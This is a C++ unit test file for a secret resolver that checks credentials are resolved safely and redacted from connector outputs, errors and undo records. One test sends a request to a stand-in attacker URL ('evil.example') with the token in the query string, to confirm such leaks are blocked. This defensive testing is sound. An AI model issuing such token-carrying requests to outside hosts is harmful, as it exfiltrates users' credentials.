// Secrets (src/connectors/secrets.h): resolving references, and proof that
// a credential the connectors use never appears in what they return:
// results, undo records or error messages.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <map>
#include <optional>
#include <sstream>

#include "base/strings.h"
#include "connectors/factory.h"
#include "connectors/secrets.h"
#include "testenv.h"
#include "tests/connectors/contract/contract_util.h"

namespace wfs::connectors {
namespace {

using contract::Call;
using contract::J;
using contract::TempDir;
using contract::UniqueName;

SecretResolver::GetEnv FakeEnv(std::map<std::string, std::string> vars) {
  return [vars](const std::string& k) -> std::optional<std::string> {
    auto it = vars.find(k);
    if (it == vars.end()) return std::nullopt;
    return it->second;
  };
}

void WriteMode(const std::string& path, const std::string& content,
               mode_t mode) {
  int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(write(fd, content.data(), content.size()),
            static_cast<ssize_t>(content.size()));
  ASSERT_EQ(fchmod(fd, mode), 0);
  close(fd);
}

std::string B64(const std::string& s) {
  static const char* t =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < s.size(); i += 3) {
    uint32_t v =
        (uint8_t(s[i]) << 16) | (uint8_t(s[i + 1]) << 8) | uint8_t(s[i + 2]);
    for (int k = 18; k >= 0; k -= 6) out += t[(v >> k) & 63];
  }
  if (i + 1 == s.size()) {
    uint32_t v = uint8_t(s[i]) << 16;
    out += t[(v >> 18) & 63];
    out += t[(v >> 12) & 63];
    out += "==";
  } else if (i + 2 == s.size()) {
    uint32_t v = (uint8_t(s[i]) << 16) | (uint8_t(s[i + 1]) << 8);
    out += t[(v >> 18) & 63];
    out += t[(v >> 12) & 63];
    out += t[(v >> 6) & 63];
    out += '=';
  }
  return out;
}

TEST(SecretResolver, ResolvesEnvironmentVariables) {
  SecretResolver r(FakeEnv({{"WFS_TOKEN", "tok-123"}, {"EMPTY", ""}}));
  auto s = r.Resolve(J(R"({"env": "WFS_TOKEN"})"));
  ASSERT_TRUE(s.ok()) << s.status().ToString();
  EXPECT_EQ(s->Reveal(), "tok-123");
  auto unset = r.Resolve(J(R"({"env": "WFS_NOPE"})"));
  EXPECT_EQ(unset.status().code(), Code::kNotFound);
  EXPECT_NE(unset.status().message().find("WFS_NOPE"), std::string::npos);
  EXPECT_EQ(r.Resolve(J(R"({"env": "EMPTY"})")).status().code(),
            Code::kFailedPrecondition);
  for (const char* bad : {R"("tok-123")", R"({"env": "A-B"})", R"({"env": ""})",
                          R"({"env": 5})", R"({"env": "X", "file": "/x"})",
                          R"({"value": "tok-123"})", R"({})", R"(null)"}) {
    auto b = r.Resolve(J(bad));
    EXPECT_EQ(b.status().code(), Code::kInvalidArgument) << bad;
    EXPECT_EQ(b.status().message().find("tok-123"), std::string::npos) << bad;
  }
}

TEST(SecretResolver, ReadsOnlyPrivateFilesOfTheUser) {
  TempDir d;
  SecretResolver r(FakeEnv({}));
  const std::string good = d.path() + "/good";
  WriteMode(good, "file-secret\n", 0600);
  auto s = r.Resolve({{"file", good}});
  ASSERT_TRUE(s.ok()) << s.status().ToString();
  EXPECT_EQ(s->Reveal(), "file-secret") << "one trailing newline is removed";
  WriteMode(good, "two\n\n", 0400);
  EXPECT_EQ(r.Resolve({{"file", good}})->Reveal(), "two\n");

  const std::string shared = d.path() + "/shared";
  WriteMode(shared, "shared-secret", 0640);
  auto g = r.Resolve({{"file", shared}});
  EXPECT_EQ(g.status().code(), Code::kPermissionDenied);
  EXPECT_NE(g.status().message().find("0640"), std::string::npos);
  EXPECT_EQ(g.status().message().find("shared-secret"), std::string::npos);
  WriteMode(shared, "shared-secret", 0602);
  EXPECT_EQ(r.Resolve({{"file", shared}}).status().code(),
            Code::kPermissionDenied);

  const std::string link = d.path() + "/link";
  ASSERT_EQ(symlink(good.c_str(), link.c_str()), 0);
  EXPECT_EQ(r.Resolve({{"file", link}}).status().code(),
            Code::kPermissionDenied);
  EXPECT_EQ(r.Resolve({{"file", d.path()}}).status().code(),
            Code::kPermissionDenied);
  EXPECT_EQ(r.Resolve({{"file", d.path() + "/missing"}}).status().code(),
            Code::kNotFound);
  EXPECT_EQ(r.Resolve({{"file", "relative/path"}}).status().code(),
            Code::kInvalidArgument);
  WriteMode(good, std::string(70000, 'x'), 0600);
  EXPECT_EQ(r.Resolve({{"file", good}}).status().code(),
            Code::kFailedPrecondition);
}

TEST(SecretResolver, SecretsNeverPrint) {
  Secret s("hunter2-hunter2");
  std::ostringstream os;
  os << s;
  EXPECT_EQ(os.str(), "<redacted>");
  EXPECT_EQ(s.ToString(), "<redacted>");
  Json j = {{"password", s}};
  EXPECT_EQ(CanonicalJson(j), R"({"password":"<redacted>"})");
}

TEST(SecretResolver, RedactsValuesAndTheirEncodings) {
  const std::string pw = "pa55-w0rd!";
  SecretResolver r(FakeEnv({{"PW", pw}}));
  EXPECT_EQ(r.Redact("nothing yet " + pw), "nothing yet " + pw)
      << "only resolved secrets are known";
  ASSERT_TRUE(r.Resolve(J(R"({"env": "PW"})")).ok());
  EXPECT_EQ(r.Redact("login failed for " + pw + "."),
            "login failed for <redacted>.");
  EXPECT_EQ(r.Redact(B64(pw)), "<redacted>");
  // Inside longer encoded credentials, at every alignment of the secret.
  for (const char* user : {"a", "ab", "abc", "alice"}) {
    const std::string basic = B64(std::string(user) + ":" + pw);
    const std::string plain =
        B64(std::string("\0", 1) + user + std::string("\0", 1) + pw);
    for (const std::string& enc : {basic, plain}) {
      std::string out = r.Redact("Authorization: Basic " + enc);
      EXPECT_NE(out.find("<redacted>"), std::string::npos) << user;
      // What is left cannot be decoded back to the password.
      EXPECT_EQ(out.find(enc), std::string::npos) << user;
    }
  }
  r.AddDerived("Bearer derived-value");
  EXPECT_EQ(r.Redact("hdr Bearer derived-value"), "hdr <redacted>");
  Json nested = {{"a", Json::array({"x " + pw, 3})}, {pw, {{"k", B64(pw)}}}};
  EXPECT_EQ(CanonicalJson(r.RedactJson(nested)),
            R"({"<redacted>":{"k":"<redacted>"},"a":["x <redacted>",3]})");
  // The replacement text itself is never rewritten by a short secret.
  SecretResolver short_r(FakeEnv({{"S", "red"}}));
  ASSERT_TRUE(short_r.Resolve(J(R"({"env": "S"})")).ok());
  EXPECT_EQ(short_r.Redact("a red car"), "a <redacted> car");
}

// ---- against the fixture server: the token is used, never shown ----------

TEST(SecretsOnTheWire, TheTokenNeverLeavesAConnector) {
  const std::optional<testenv::Env> loaded = testenv::Load();
  ASSERT_TRUE(loaded.has_value())
      << "WFS_TESTENV is not set: run through ctest (needs the wfs_servers "
         "fixture)";
  const testenv::Env& env = *loaded;
  const std::string token = env.at("WFS_HTTP_TOKEN");
  const std::string fixtures = env.at("WFS_HTTP_FIXTURES");
  const std::string base = env.at("WFS_HTTP_URL");
  SecretResolver secrets(
      [&env](const std::string& k) -> std::optional<std::string> {
        if (!env.has(k)) return std::nullopt;
        return env.at(k);
      });
  Json config = {
      {"http",
       {{"allow_hosts", {"127.0.0.1"}},
        {"public_addresses_only", false},
        {"credentials",
         {{{"host", "127.0.0.1"}, {"token", {{"env", "WFS_HTTP_TOKEN"}}}}}}}},
      {"tracker",
       {{"profile", "github"},
        {"base", base},
        {"allow_hosts", {"127.0.0.1"}},
        {"token", {{"env", "WFS_HTTP_TOKEN"}}}}}};
  auto made = MakeConnectors(config, &secrets);
  ASSERT_TRUE(made.ok()) << made.status().ToString();
  Connector& http = *(*made)->Find("http");
  Connector& tracker = *(*made)->Find("tracker");

  // Servers that echo the credential back: in a page, in an issue, in a
  // malformed answer.
  const std::string repo = "wfstore-test/" + UniqueName("sec").substr(4);
  auto put = [&](const std::string& rel, const std::string& text) {
    std::string full = fixtures + rel;
    for (size_t i = fixtures.size() + 1; i < full.size(); ++i) {
      if (full[i] == '/') mkdir(full.substr(0, i).c_str(), 0755);
    }
    std::ofstream(full, std::ios::binary | std::ios::trunc) << text;
  };
  put("/" + repo + "-echo.json",
      "{\"seen\": \"Bearer " + token + "\", \"b64\": \"" + B64(token) + "\"}");
  put("/repos/" + repo + "/issues/1.json",
      CanonicalJson({{"number", 1},
                     {"title", "token is " + token},
                     {"body", ""},
                     {"state", "open"},
                     {"user", {{"login", token}}},
                     {"labels", {{{"name", token}}}}}));
  put("/repos/" + repo + "/issues/1/labels/" + token + ".DELETE.json", "[]");
  put("/repos/" + repo + "/issues/2.json", "{\"number\": \"" + token + "\"}");

  ScopeMap domain = {{"domain", {"127.0.0.1"}}};
  ScopeMap repos = {{"repository", {repo}}};
  std::vector<std::string> outputs;
  auto record = [&](const Result<ActionResponse>& r) {
    if (r.ok()) {
      outputs.push_back(CanonicalJson(r->result));
      outputs.push_back(CanonicalJson(r->undo));
    } else {
      outputs.push_back(r.status().ToString());
    }
  };
  auto get =
      Call(http, "get", {{"url", base + "/" + repo + "-echo.json"}}, &domain);
  ASSERT_TRUE(get.ok()) << get.status().ToString();
  EXPECT_NE(get->result["body"].get<std::string>().find("<redacted>"),
            std::string::npos);
  record(get);
  record(
      Call(http, "get", {{"url", "http://evil.example/?t=" + token}}, &domain));
  record(Call(http, "get", {{"url", base + "/x?t=" + token}}, &domain));
  record(Call(http, "post",
              {{"url", base + "/" + repo + "/hook?t=" + token}, {"body", "x"}},
              &domain));
  auto issue =
      Call(tracker, "get_issue", {{"repo", repo}, {"number", 1}}, &repos);
  ASSERT_TRUE(issue.ok()) << issue.status().ToString();
  EXPECT_EQ(issue->result["title"], "token is <redacted>");
  record(issue);
  // A label the server named after the token: the undo record does not
  // carry it into the journal.
  auto rm = Call(tracker, "remove_label",
                 {{"repo", repo}, {"number", 1}, {"label", token}}, &repos);
  ASSERT_TRUE(rm.ok()) << rm.status().ToString();
  EXPECT_FALSE(rm->undo.is_null());
  record(rm);
  record(Call(tracker, "get_issue", {{"repo", repo}, {"number", 2}}, &repos));
  record(Call(tracker, "get_issue",
              {{"repo", repo + "/" + token}, {"number", 1}}, nullptr));
  ASSERT_GE(outputs.size(), 10u);
  for (const std::string& out : outputs) {
    EXPECT_EQ(out.find(token), std::string::npos) << out;
    EXPECT_EQ(out.find(B64(token)), std::string::npos) << out;
  }
  // The token did go to the server, in the header only.
  std::ifstream in(env.at("WFS_HTTP_REQUESTS"));
  std::string line;
  int authorized = 0;
  while (std::getline(in, line)) {
    Result<Json> req = ParseJson(line);
    if (!req.ok() || (*req)["path"] != "/" + repo + "-echo.json") continue;
    authorized += (*req)["headers"]["Authorization"] == "Bearer " + token;
  }
  EXPECT_EQ(authorized, 1);
}

TEST(SecretsInConfig, ErrorsNameTheReferenceNotTheValue) {
  TempDir d;
  const std::string file = d.path() + "/token";
  WriteMode(file, "very-secret-token", 0644);
  SecretResolver secrets(FakeEnv({}));
  auto made =
      MakeConnectors({{"tracker", {{"token", {{"file", file}}}}}}, &secrets);
  ASSERT_FALSE(made.ok());
  EXPECT_EQ(made.status().code(), Code::kPermissionDenied);
  EXPECT_NE(made.status().message().find("tracker.token"), std::string::npos);
  EXPECT_NE(made.status().message().find(file), std::string::npos);
  EXPECT_EQ(made.status().message().find("very-secret-token"),
            std::string::npos);
}

}  // namespace
}  // namespace wfs::connectors
